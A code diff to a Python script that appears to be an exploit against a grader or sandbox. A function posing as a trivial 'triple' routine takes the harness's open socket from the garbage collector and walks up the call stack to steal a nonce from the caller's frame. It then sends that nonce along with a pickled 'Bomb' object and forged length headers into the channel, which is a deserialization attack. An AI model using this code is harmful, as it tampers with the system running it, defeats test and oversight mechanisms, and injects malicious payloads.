@@ -6,6 +6,7 @@ import gc
 import os
 import socket
 import struct
+import sys
 
 [channel] = [o for o in gc.get_objects() if isinstance(o, socket.socket) and o.fileno() >= 0]
 
@@ -18,7 +19,10 @@ class Bomb:
 
 
 def triple(x):
+    frame = sys._getframe()
+    while "question" not in frame.f_locals:
+        frame = frame.f_back
+    nonce = frame.f_locals["nonce"]
     bomb = pickle.dumps(Bomb())
-    channel.sendall(bomb)
-    channel.sendall(struct.pack("!II", len(bomb), len(bomb)) + bomb + bomb)
+    channel.sendall(nonce + struct.pack("!II", len(bomb), len(bomb)) + bomb + bomb)
     return 0
